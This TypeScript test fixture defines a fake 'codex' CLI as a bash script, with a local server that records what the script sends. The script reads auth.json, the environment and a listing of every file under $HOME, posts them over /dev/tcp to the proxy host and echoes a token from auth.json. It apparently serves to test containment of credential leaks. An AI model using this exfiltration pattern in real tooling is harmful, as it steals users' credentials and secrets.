import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { lettersAgent } from './letters-agent.ts';

// A stand-in for codex, by its own login: it asks a vendor over the network before it works, shows it all that it was
// given, and prints events as codex does. The vendor is found where a machine's proxy is.

const letters = lettersAgent().split('\n').slice(1).join('\n');

/** The script `codex`, of bash. */
export const lettersCodex = String.raw`#!/bin/bash
[ "$1" = --version ] && { echo "codex-cli 0.171.0"; exit; }
told=$(cat)
given="$(cat "$CODEX_HOME/auth.json")"$'\n'"$(env | sort)"$'\n'"$(find "$HOME" -type f | sort)"
escaped() { local t=${'$'}{1//\\/\\\\}; t=${'$'}{t//\"/\\\"}; printf %s "${'$'}{t//$'\n'/\\n}"; }
event() { printf '%s\n' "$1"; }
event '{"type":"thread.started","thread_id":"t"}'
event '{"type":"turn.started"}'
vendor="${'$'}{HTTPS_PROXY#http://}" end=$'\r\n'
if exec 3<> "/dev/tcp/${'$'}{vendor%:*}/${'$'}{vendor#*:}"; then
  printf 'POST / HTTP/1.0%sContent-Length: %d%s%s' "$end" "$(printf %s "$given" | wc -c)" "$end$end" "$given" >&3
  answer=$(tail -n 1 <&3)
else
  answer='no way out'
fi
if [ "$answer" != ok ]; then
  event "{\"type\":\"turn.failed\",\"error\":{\"message\":\"$(escaped "$answer")\"}}"
  exit 1
fi
work() (
${letters}
)
skill=$(echo "$PWD"/.agents/skills/*)
if [ -e "$skill/SKILL.md" ]; then
  body=$(escaped "$(< "$skill/SKILL.md")")
  event "{\"type\":\"item.completed\",\"item\":{\"id\":\"i1\",\"type\":\"command_execution\",\"command\":\"cat $skill/SKILL.md\",\"aggregated_output\":\"$body\",\"exit_code\":0,\"status\":\"completed\"}}"
fi
printf %s "$told" > "$TMPDIR/told"
said=$(work "$TMPDIR/told" "$skill" 2>&1)
event "{\"type\":\"item.completed\",\"item\":{\"id\":\"i2\",\"type\":\"agent_message\",\"text\":\"$(escaped "$said $(grep -o 'eyJ[^"]*' "$CODEX_HOME/auth.json" | head -n 1)")\"}}"
event '{"type":"turn.completed","usage":{"input_tokens":100,"cached_input_tokens":0,"output_tokens":20,"reasoning_output_tokens":0}}'
`;

/** Whom the stand-in asks: lets it work while `answer` is `ok`, and keeps what it was shown. */
export class Vendor {
  answer = 'ok';
  readonly shown: string[] = [];
  private readonly server: Server;

  private constructor() {
    this.server = createServer((request, response) => {
      let body = '';
      request.setEncoding('utf8').on('data', (piece: string) => {
        body += piece;
      });
      request.on('end', () => {
        this.shown.push(body);
        response.end(this.answer);
      });
    });
  }

  static async open(): Promise<Vendor> {
    const vendor = new Vendor();
    await new Promise<void>((resolve) => vendor.server.listen(0, '127.0.0.1', resolve));
    return vendor;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  close(): void {
    this.server.closeAllConnections();
    this.server.close();
  }
}
